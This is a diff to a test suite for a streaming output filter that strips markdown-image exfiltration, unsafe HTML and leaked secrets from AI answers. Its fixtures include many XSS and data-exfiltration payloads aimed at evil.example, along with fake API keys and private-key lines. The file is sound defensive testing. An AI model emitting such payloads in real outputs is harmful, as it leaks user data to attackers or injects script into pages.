@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import base64
 import codecs
+import copy
 import html
 import itertools
 import random
@@ -244,6 +245,39 @@ JOINED = [
     "<audio><source src=//evil.example/x></audio>",
     "<body background=//evil.example/x>",
     "<q cite=x style='list-style:url(//evil.example/x)'>",
+    "![" + "words of it " * 12 + "](https://evil.example/x.png)",
+    "![" + "words [of] it " * 12 + "](//evil.example/x.png 'title')",
+    "![" + "words " * 12 + "[a](https://evil.example/1) " + "words " * 9 + "](https://evil.example/2.png)",
+    "![" + "words " * 12 + "](  " + " " * 70 + "https://evil.example/x.png)",
+    "![" + "words " * 12 + "](https://img.example.org/go?url=https://evil.example/x.png)",
+    "![" + "words " * 12 + "][r]\n\n[r]: https://evil.example/x.png",
+    "[r]: https://evil.example/x.png\n\n![" + "words " * 12 + "][r]",
+    "[r]: https://evil.example/x.png\n\n![" + "words " * 12 + "![r] " + "words " * 9 + "]",
+    f"[{'words ' * 12}]: https://evil.example/x.png\n\n![{'words ' * 12}]",
+    "![a](https://img.example.org/" + "words/" * 12 + "![b](https://evil.example/x.png))",
+    "[a](https://img.example.org/" + "words/" * 12 + "![b](https://evil.example/x.png))",
+    "text\n[" + "words " * 12 + "]: <img src=\"https://evil.example/x.png\" alt='" + "words " * 12 + "'>",
+    "<img alt='" + "words " * 12 + "' src='https://evil.example/x.png'>",
+    "<img alt='" + "words > " * 12 + "' onerror=\"alert('evil.example')\">",
+    "<img srcset='https://img.example.org/a.png 1x, " + "https://img.example.org/b.png 2x, " * 3 + "//evil.example/x.png 3x'>",
+    "<p style='" + "color: red; " * 9 + "background: url(//evil.example/x.png)'>",
+    "<a title='" + "words " * 12 + "' href=\"javascript:alert('evil.example')\">x</a>",
+    "<iframe title='" + "words " * 12 + "' src='https://evil.example/x'></iframe>",
+    "<script src='https://evil.example/" + "words/" * 12 + "x.js'></script>",
+    "`" + "code " * 12 + "![a](https://evil.example/x.png)",
+    "![a `[` ](https://evil.example/x.png)",
+    "a ` b\n`![a](https://evil.example/x.png)`",
+    "a `b\nc` ![a](https://evil.example/x.png) `d`",
+    "`a | b` ![a](https://evil.example/x.png) `c`",
+    "[a](https://img.example.org/`b) text ` ![x](https://evil.example/x.png) `",
+    "https://img.example.org`![a](https://evil.example/x.png)`",
+    "```" + "x" * 90 + "\n```\n![a](https://evil.example/x.png)\n```",
+    "[r]:\n```\n![a](https://evil.example/x.png)\n```",
+    "[a](\n```" + "x" * 90 + "\n\n```\n![a](https://evil.example/x.png)\n```",
+    "a <b\n```\n\n```\n![a](https://evil.example/x.png)\n```",
+    "- ~~~\n> ![a](https://evil.example/x.png)",
+    "<div>x</div>\n> \n```\n<img src='https://evil.example/x.png'>",
+    "<div>\n<b style='\n" + "color: red; " * 6 + "\n\nsrc\n\n; background: url(https://evil.example/x.png)'>",
 ]  # fmt: skip
 
 
@@ -276,7 +310,8 @@ def test_attacks_cut_into_each_other_do_not_come_through(attacks: list[str], r: 
     bare = re.sub(r"(?ms)^[ >\t-]*(`{3,}|~{3,}).*", "", out)
     bare = re.sub(r"(`+)[^`\n]*\1", "", bare)
     assert not re.search(r"!\[[^\]\n]{0,80}\]\(\s*<?(?:https?:)?[/\\]{2}", bare), out
-    assert not re.search(r"<(?:img|script|iframe|object|embed|svg|form|base)\b[^<]*>", bare, re.IGNORECASE), out
+    assert not re.search(r"<(?:script|iframe|object|embed|svg|form|base)\b[^<]*>", bare, re.IGNORECASE), out
+    assert not re.search(r"<img\b[^<]*[\s/](?:src|srcset|style|on\w+)\s*=", bare, re.IGNORECASE), out
 
 
 # ---------------------------------------------------------------- what may pass
@@ -410,6 +445,27 @@ def test_a_rule_may_end_the_answer():
     assert gate.feed("nothing") == ""
 
 
+@pytest.mark.parametrize(
+    ("rules", "text", "kind"),
+    [
+        (GateRules(images="block"), f"fine ![{'words ' * 12}](https://evil.example/{'a/' * 60}x.png) more", "EXFILTRATION:image"),
+        (GateRules(secrets="block"), f"fine sk-proj-{'aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bD1fH3jK5' * 4} more", "SECRET:openai_key"),
+        (GateRules(html="block"), f"fine <iframe title='{'words ' * 12}' src=x> more", "UNSAFE_HTML"),
+    ],
+    ids=range(3),
+)  # fmt: skip
+def test_a_rule_may_end_the_answer_at_what_is_longer_than_what_is_held_back(rules: GateRules, text: str, kind: str):
+    gate = Gate(rules)
+
+    said = "".join(map(gate.feed, text)) + gate.close()
+
+    assert gate.blocked is not None
+    assert gate.blocked.type == kind
+    assert said.startswith("fine")
+    assert "more" not in said
+    assert "evil" not in said
+
+
 def test_what_is_allowed_is_left_alone():
     everything = GateRules(
         images="allow", links="allow", html="allow", secrets="allow", invisible="allow", leaks="allow"
@@ -459,14 +515,187 @@ def test_any_text_at_all_leaves_the_same_in_pieces(text: str):
     assert streamed(list(text), RULES) == streamed([text], RULES)
 
 
-@pytest.mark.parametrize("text", [t for t in HARMLESS if not set("`<[") & set(t) and max(map(len, t.split())) < 40])
-def test_ordinary_text_is_held_back_by_64_characters_at_most(text: str):
-    gate = Gate(RULES, protected=[INSTRUCTIONS], canaries=[CANARY])
-    left = 0
-    for fed, sign in enumerate(f"{text} {text} {text}", start=1):
-        left += len(gate.feed(sign))
+ADDRESS = "https://docs.example.com/guides/how-to-return-a-book/and-what-else-there-is-to-know-about-it/page-two.html?lang=en&section=returns#top-of-the-page"
+PICTURE = (
+    "https://img.example.org/pictures/of-our-library/in-the-summer/with-many-people-in-it/and-books/2024/large.png"
+)
+SENTENCE = "a picture of the library in the summer with many people in it who read books in the shade"
+LONG = [
+    f"See {ADDRESS} for more of it.",
+    f"See {ADDRESS.replace('https://', 'www.')}, for more of it.",
+    f"See <{ADDRESS}> for more.",
+    f"See [the guide]({ADDRESS}) for more of it.",
+    f"See [the guide](<{ADDRESS}>) for more of it.",
+    f'See [the guide]({ADDRESS} "{SENTENCE}") for more of it.',
+    f"See [{SENTENCE}]({ADDRESS}) for more.",
+    f"See [the guide]({'../' * 40}guide.html) for more.",
+    f"See [the guide](https://web.archive.org/web/2024/{ADDRESS}) for more.",
+    f"See [it](https://img.example.org/go?url={quote(ADDRESS, safe='')}&more=yes) for more.",
+    f"See https://en.wikipedia.org/wiki/{'Some_(very)_' * 6}long_title_(of_a_page) for more.",
+    f"See https://de.wikipedia.org/wiki/{quote('Größenänderung der Übermittlungsgebühren im Überblick', safe='')} for more.",
+    f"See https://hub.example.com/layers/library/image/3.11/sha256/{'7123110e3b6a529142d58d0784dff1e5' * 2}/tags for more.",
+    f"See https://my-bucket-with-a-long-name.s3-website.eu-central-1.cloud.provider.example.com/{'a/b/' * 20} for more.",
+    f"![A picture of the library]({PICTURE}) is here.",
+    f'![A picture of the library]({PICTURE} "{SENTENCE}") is here.',
+    f"![{SENTENCE}]({PICTURE}) is here.",
+    f"![{SENTENCE}](<{PICTURE}>) is here.",
+    f"![{SENTENCE}][p] is here.\n\n[p]: {PICTURE} 'It is'\n",
+    f"[p]: {PICTURE}\n\n![{SENTENCE}][p] is here.",
+    f"[![{SENTENCE}]({PICTURE})]({ADDRESS}) is here.",
+    f"![signed](https://img.example.org/p.png?v={'a1B2c3D4' * 30}&expires=300) is here.",
+    f"[the guide][g] and\n\n[g]: {ADDRESS}\n\nmore",
+    f"[{SENTENCE}]: {ADDRESS}\n\nmore of [{SENTENCE}]",
+    f'<img src="{PICTURE}" alt="{SENTENCE}"> is here.',
+    f"<img alt='{SENTENCE}' src={PICTURE} width=300> is here.",
+    f'<picture><source srcset="{PICTURE} 1x, {PICTURE} 2x"><img src="{PICTURE}"></picture> is here.',
+    f'<a href="{ADDRESS}" title="{SENTENCE}">guide</a> is here.',
+    f'<p style="{"color: red; " * 12}">red</p>',
+    f'<details title="{SENTENCE} > {SENTENCE}"><summary>x</summary></details>',
+    f"<!-- {SENTENCE} {SENTENCE} --> end",
+    f"The hash is {'a1b2c3d4e5f60718' * 8} of it.",
+    f"The word is {'Donaudampfschifffahrtsgesellschaftskapitaenswitwe' * 4} of it.",
+    f"Data: {'SGVsbG8gd29ybGQgaGVsbG8gd29ybGQ' * 6} end of it.",
+    f"/usr/share/{'some/long/path/' * 12}file.txt is it",
+    '{"a": "' + "b" * 100 + '", "c": [' + ", ".join(map(str, range(60))) + "]}",
+    "token = request.headers.get('" + "x-some-header-name-" * 6 + "')",
+    '"password": "' + SENTENCE + '"',
+    f"`{'x' * 150}` ok",
+    f"`{'word ' * 30}` ok",
+    f"Use `<input type='text' name='q' placeholder='{SENTENCE}' required>` here.",
+    f"Use `docker run -v /a:/b <name> --label '{SENTENCE}' -p 80:80 a/b | tee log` here.",
+    f"Use `![{SENTENCE}](https://other.example/p.png)` here.",
+    f"```\ncurl {ADDRESS}\n```\n",
+    f"```python title='{SENTENCE}'\nx = '<script>'\n```\n",
+    f"```python\n{' ' * 80}x = '<script>'\n```\n",
+    "-----BEGIN CERTIFICATE-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKB\n" * 4 + "-----END CERTIFICATE-----\n",
+    f"-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----\n\n{'-' * 100}\n",
+    "| a | b |\n|" + "-" * 90 + "|---|\n" + "| some words | some more words of it |\n" * 3,
+    f"A list [{SENTENCE} {SENTENCE} here.",
+    f"Wow ![{SENTENCE} {SENTENCE} here.",
+    f"\\[ {'x_1 + ' * 30} \\] and $$ {'y < z, ' * 30} $$",
+    "图书馆每天开放包括星期天但五月一日不开放读者可以借阅三十天的书籍并且可以续借两次" * 4,
+]  # fmt: skip
 
-        assert fed - left <= 64
+
+def held_back(text: str, **more: list[str]) -> Iterator[int]:
+    """How many characters are held back after each character of a text that leaves as it is."""
+    gate = Gate(RULES, **more)
+    left = 0
+    for fed, sign in enumerate(text, start=1):
+        left += len(gate.feed(sign))
+        yield fed - left
+
+
+@pytest.mark.parametrize("text", [*HARMLESS, *LONG], ids=range(len(HARMLESS) + len(LONG)))
+def test_what_may_leave_is_held_back_by_64_characters_at_most(text: str):
+    watched = {"protected": [INSTRUCTIONS], "canaries": [CANARY]}
+    twice = f"{text}\n\n{text}"
+
+    assert gated(twice, RULES, **watched) == (twice, [])
+    assert max(held_back(twice, **watched)) <= 64
+
+
+@given(st.lists(st.sampled_from(LONG + HARMLESS), min_size=2, max_size=4), st.lists(st.integers(0, 900), max_size=6))
+@settings(max_examples=40, deadline=None)
+def test_long_constructs_leave_in_time_and_as_they_are(texts: list[str], cuts: list[int]):
+    text = "\n\n".join(texts)
+    places = sorted({min(cut, len(text)) for cut in cuts} | {0, len(text)})
+
+    assert streamed([text[a:b] for a, b in itertools.pairwise(places)], RULES) == (text, [], False)
+    assert max(held_back(text)) <= 64
+
+
+PIECES = [
+    "](", "![", "[", "]", "(", ")", "<", ">", "\"", "'", "`", "``", "```", "|", "\\", "!", "=", " ", "\n", "\n\n", "\n- ", "\n> ", "*", ".", "-----", "<img src=\"", "<img alt='",
+    "<a href=\"", "<b title=\"", "<p style=\"", "<img srcset=\"", "<iframe src='", " onclick=\"", "]: ", "\n[r]: ", "![a][r]", "https://img.example.org/", "https://evil.example/", "//evil.example/",
+    "www.example.com/", "https://joe:pw12x9@host/", "?url=", "&d=", ENCODED, f"/{'some-long-path-' * 5}", "x" * 75, SENTENCE, "word ", "日本語", "🏴\U000e0067\U000e0062", "\u200b", "password: ",
+    "api_key=\"", "hX7!pq2Zk9", "ghp_bsOHWdsdfxwhQGCr9TcdJrv9wpXrYFqWWeoA", "sk-proj-" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bD1fH3jK5" * 3, "-----BEGIN RSA PRIVATE KEY-----\n",
+    "VNQfwCs5bE4UjgUbDTp5XN87tTAhvYWYoTXra7p2GeW1Kg2VIdHxgBUck2LDaF5o\n", "-----END RSA PRIVATE KEY-----", CANARY[:9], INSTRUCTIONS[:60],
+]  # fmt: skip
+MARKERS = len("[SECRET] [LINK]")
+
+
+@given(st.lists(st.sampled_from(PIECES), min_size=4, max_size=24), st.sets(st.integers(0, 900), max_size=8))
+@settings(max_examples=80, deadline=None)
+def test_of_any_mixture_the_same_leaves_in_time_wherever_it_is_cut(pieces: list[str], cuts: set[int]):
+    text = "".join(pieces)
+    watched = {"protected": [INSTRUCTIONS], "canaries": [CANARY]}
+    places = sorted({min(cut, len(text)) for cut in cuts} | {0, len(text)})
+    gate, said = Gate(RULES, **watched), ""
+    for fed, sign in enumerate(text):
+        if fed in cuts and gate.blocked is None:
+            assert len(copy.deepcopy(gate).close()) <= 64 + MARKERS
+        said += gate.feed(sign)
+    said += gate.close()
+
+    whole = streamed([text], RULES, **watched)
+
+    assert streamed([text[a:b] for a, b in itertools.pairwise(places)], RULES, **watched) == whole
+    assert said == whole[0]
+    assert not re.search(r"\bsk-proj-aB3d", said)
+    assert "PRIVATE KEY-----\nVNQf" not in said
+    assert not re.search(r"!\[[^\]\n]{0,80}\]\(\s*<?(?:https?:)?//evil", re.sub(r"(?s)`.*", "", said))
+
+
+WHOLE = Addresses(("img.example.org",))
+
+
+@given(st.lists(st.sampled_from(["a", "words", "-", "_", "/", "?", "&", "=", "#", ".", "%2F", "url=", "https://", "img.example.org/", "evil.example/", "@", "://", ENCODED, ENCODED[:9],
+                                 "john.smith@example.com", HIDDEN.encode().hex(), "0123456789abcdef" * 5, "Xq7" * 9, SENTENCE.replace(" ", "-"), SENTENCE.replace(" ", "%20")]), min_size=3, max_size=14),
+       st.booleans(), st.sampled_from(["img.example.org", "other.example", "sub.domain.of.other.example"]))  # fmt: skip
+@settings(max_examples=150, deadline=None)
+def test_an_address_that_left_in_part_is_one_that_might_have_been_the_whole(parts: list[str], loads: bool, host: str):
+    address = re.sub(r"\s", "", f"https://{host}/{''.join(parts)}")
+
+    said, _ = gated(f"{'!' * loads}[x]({address}) end", GateRules(allowed_hosts=("img.example.org",)))
+
+    left = re.match(r"!?\[x\]\((.*?)\)( |$)", said)
+    assert left is None or WHOLE.against(left[1], loads=loads) == ""
+    assert HIDDEN.encode().hex()[:40] not in said or host == "img.example.org"
+    assert said.endswith(" end")
+
+
+def test_what_is_refused_late_is_closed_where_it_stands():
+    address = f"https://evil.example/some/path/that/is/long/enough/to/leave/before?d={ENCODED}"
+
+    for attack, left in (
+        (f"[more]({address}) now", "[more](…) [LINK] now"),
+        (f"[more](<{address}> 'title') now", "[more](<…>) [LINK] now"),
+        (f"at {address} now", "at … [LINK] now"),
+        (f"at <{address}> now", "at <…> [LINK] now"),
+        (f'<a href="{address}">more</a> now', '<a href="…" >more</a> now'),
+        (f"[r]: {address} 'title'\nnow", "[r]: … [LINK] 'title'\nnow"),
+    ):
+        out, findings = gated(attack, RULES)
+
+        assert re.sub(r"https://evil\.example/some/[a-z/]+(?:\?d=)?", "…", out) == left
+        assert [finding.type for finding in findings] == ["EXFILTRATION:link"]
+        assert ENCODED in attack[findings[0].start : findings[0].end]
+
+
+def test_a_picture_whose_words_have_left_keeps_them_and_nothing_that_loads():
+    out, findings = gated(f"See ![{SENTENCE}](https://evil.example/{'a/' * 60}x.png 'title') here", RULES)
+
+    assert out == f"See ![{SENTENCE}] here"
+    assert [finding.type for finding in findings] == ["EXFILTRATION:image"]
+
+
+def test_nothing_of_a_secret_leaves_however_long_it_is_and_what_follows_does():
+    for secret in (
+        f"sk-proj-{'aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bD1fH3jK5' * 4}",
+        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9." + "eyJzdWIiOiI5ODc2NTQzMjEiLCJpYXQiOjE1fQ" * 8 + ".Xk3dE5gH7jK9mN1pQ3sT5vW7yZ9bD1fH3jK5aB3dE5g",
+        f"api_key = '{'aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bD1fH' * 9}'",
+        f"password: {'hX7!pq2Zk9' * 9}",
+    ):  # fmt: skip
+        value = re.split(r"[ ']+", secret.rstrip("'"))[-1]
+        for text in (f"Use {secret}. Then go on.", f"Use {secret}, then go on.", f"Use {secret}\n\nThen go on."):
+            gate = Gate(RULES)
+            said = "".join(map(gate.feed, text)) + gate.close()
+
+            assert not any(value[at : at + 8] in said for at in range(len(value) - 7))
+            assert said.endswith("go on.")
+            assert "[SECRET]" in said
+            assert value in text[gate.findings[0].start : gate.findings[0].end + 1]
 
 
 def test_no_character_of_a_secret_or_a_foreign_address_leaves_while_it_is_being_written():
@@ -490,8 +719,11 @@ def test_no_character_of_a_secret_or_a_foreign_address_leaves_while_it_is_being_
 @pytest.mark.parametrize(
     "text",
     ["![" * 20_000, "[" * 20_000, "<a " * 20_000, "`" * 20_000 + "a", "<b a=" * 10_000, "](" * 10_000, "key: " * 10_000, "://a:" * 10_000, "\u200d" * 20_000,
-     "-----BEGIN RSA PRIVATE KEY-----\n" * 2_000, "eyJ-" * 10_000, "A" * 100_000, "> " * 20_000, "\\" * 20_000, "![a][" * 10_000, "<img src=" * 8_000, "password is " * 6_000],
-    ids=range(17),
+     "-----BEGIN RSA PRIVATE KEY-----\n" * 2_000, "eyJ-" * 10_000, "A" * 100_000, "> " * 20_000, "\\" * 20_000, "![a][" * 10_000, "<img src=" * 8_000, "password is " * 6_000,
+     "[x](https://evil.example/" + "a-" * 30_000, "![a](https://img.example.org/" + "ab/" * 20_000, "https://img.example.org/?" + "a=b&" * 20_000, "https://img.example.org/?url=" * 2_000,
+     "<p style='" + "a:b;" * 15_000, "<img srcset='" + "a.png 1x, " * 6_000, "<img alt='" + "a='" * 20_000, "`" + "<b " * 20_000, "----- " * 8_000, "-----BEGIN " * 5_000, "![" + "[a][b] " * 8_000,
+     "password=`" * 6_000, "AKIAAAAA-" * 6_000, "https://a.example/" * 3_000, "https://" + "a." * 30_000],
+    ids=range(32),
 )  # fmt: skip
 def test_hostile_texts_pass_in_linear_time(text: str):
     out, _ = gated(text, RULES)
